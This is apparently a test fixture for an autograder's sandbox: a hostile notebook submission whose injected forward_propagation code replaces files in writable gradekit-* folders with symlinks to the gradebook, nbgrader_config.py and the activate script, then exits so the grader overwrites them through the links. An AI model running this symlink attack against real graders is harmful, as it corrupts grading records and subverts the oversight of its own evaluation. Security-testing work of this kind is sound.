"""Looks for any folder it can write that the grader also uses (the
kernel's runtime folder, the trusted regrade's scratch folder), replaces
the files there with symbolic links to the gradebook, nbgrader_config.py
and the environment's activate script, then kills itself so that the
grader restarts it and writes its files again, through the links. It only
touches folders named gradekit-* (the grader's own, in the design this
attacks), and is never graded without the sandbox."""
EXPECTED = {}
EXTRA = {"forward_propagation": "import os\nimport pathlib\nimport sys\n\n# Only folders the grader made for this submission (gradekit-*), so that\n# the attack harms nothing else even where no sandbox stops it.\nroot = pathlib.Path.cwd().parents[2]\ntargets = [root / \"gradebook.db\", root / \"nbgrader_config.py\",\n           pathlib.Path(sys.prefix) / \"bin\" / \"activate\"]\nfolders = set()\nfor argument in sys.argv:\n    if argument.endswith(\".json\"):\n        folders.add(os.path.dirname(argument))\ntry:\n    for line in open(\"/proc/self/mountinfo\"):\n        fields = line.split()\n        if \"rw\" in fields[5].split(\",\"):\n            folders.add(fields[4])\nexcept OSError:\n    pass\nfor folder in folders:\n    if not os.path.basename(folder).startswith(\"gradekit-\"):\n        continue\n    try:\n        names = os.listdir(folder) + [\"kernel.json\", \"spec.json\"]\n    except OSError:\n        continue\n    for k, name in enumerate(names):\n        path = os.path.join(folder, name)\n        try:\n            if os.path.lexists(path):\n                os.remove(path)\n            os.symlink(targets[k % len(targets)], path)\n        except OSError:\n            pass\nos._exit(1)"}

# %% [forward_propagation]
def forward_propagation(x, theta):
    return theta * x

# %% [backward_propagation]
def backward_propagation(x, theta):
    return x
